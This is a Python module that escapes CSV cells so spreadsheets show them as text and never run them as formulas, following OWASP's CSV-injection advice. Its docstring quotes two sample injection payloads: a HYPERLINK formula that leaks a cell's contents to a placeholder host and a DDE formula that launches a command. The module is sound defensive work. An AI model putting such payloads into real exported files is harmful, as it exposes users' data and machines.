"""Cells a spreadsheet opens as text, never as a formula: every CSV apacore writes.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (``=HYPERLINK("http://x.example/?leak="&A1)``,
``@SUM(1+1)*cmd|' /C calc'!A0``), and a leading tab or carriage return can hide one. An
office's name or a folder's name is text someone else typed, so, as OWASP recommends
("CSV Injection"), a cell that starts with one of these characters is written with a
single quote before it: the spreadsheet shows the text and runs nothing. A figure is
never touched: a cell that is exactly a number (``-2.50``, ``+3``, ``1e3`` is not one)
or a lone dash (no figure) is written as it is, so a spreadsheet still reads ``-2.50``
as minus two and a half. Control characters inside a cell are shown escaped (``\\r``,
``\\x1b``), as in every message: a carriage return the CSV writer leaves unquoted would
start a new row (a row of the attacker's choosing), a NUL ends a string early in some
readers. docs/limits.md describes it.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Final, Protocol

from apacore.errors import printable

__all__ = ["FORMULA_STARTS", "neutralise", "write_row"]

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
"""What a cell a spreadsheet would run starts with (OWASP's list)."""

_NUMBER_RE: Final = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?%?")
"""A figure as apacore writes one: ASCII digits, a sign, a decimal point, a percent."""


def neutralise(cell: object) -> str:
    """``cell`` as text a spreadsheet shows and never runs: control characters escaped,
    and a quote before a leading ``=``, ``+``, ``-`` or ``@``, unless it is a number or
    ``-`` (a leading tab or carriage return is escaped, so starts with a backslash)."""
    text = "" if cell is None else printable(str(cell))
    if text.startswith(FORMULA_STARTS) and text != "-" and not _NUMBER_RE.fullmatch(text):
        return "'" + text
    return text


class _Writer(Protocol):
    def writerow(self, row: Iterable[object], /) -> object: ...


def write_row(writer: _Writer, cells: Iterable[object]) -> None:
    """Write ``cells`` with ``writer`` (a :func:`csv.writer`), each :func:`neutralise`\\ d."""
    writer.writerow([neutralise(c) for c in cells])
